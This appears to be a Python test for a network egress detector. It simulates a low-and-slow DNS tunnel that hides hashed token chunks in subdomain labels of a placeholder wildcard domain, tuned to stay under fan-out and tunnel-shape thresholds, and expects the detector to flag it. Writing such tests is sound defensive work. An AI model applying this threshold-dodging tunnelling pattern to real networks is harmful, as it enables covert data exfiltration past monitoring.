"""Low-and-slow DNS tunnel through an allowed wildcard name: 39 names (under the fan-out threshold) of three short labels (under the tunnel-shape thresholds), 1.4 KB of label bytes in one window; must be flagged."""
import hashlib
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": ["*.tun.test:443"], "dns": {"upstream": [SECDNS]}}
AS = ("nobody",)
SINKS_OK = [SECDNS]  # the policy forwards *.tun.test: the judge is the flag and the record
NAMES = 39


def not_sweep_or_fanout(reason):
    """The new detector's reason (the fix names it), not one that fires on main for other
    reasons."""
    return bool(reason) and reason not in ("dns_sweep", "dns_fanout", "dest_scan", "port_scan",
                                           "metadata", "private_address", "host_address")


RECORD = [("egress.probe", {"egress.probe.reason": not_sweep_or_fanout})]


def chunks(token):
    """NAMES distinct names, 36 bytes of data each (hex of the token's hash chain)."""
    for i in range(NAMES):
        part = hashlib.sha256(("%s/%d" % (token, i)).encode()).hexdigest()[:36]
        yield "%s.%s.%s.tun.test" % (part[:12], part[12:24], part[24:36])


def job(token, args):
    sent = 0
    for name in chunks(token):
        attempt("query", lambda: len(dns_udp(DNS_V4, dns_query_bytes(name))))
        sent += 36
        time.sleep(0.05)
    out(step="label bytes sent", n=sent)


if __name__ == "__main__":
    main(globals())
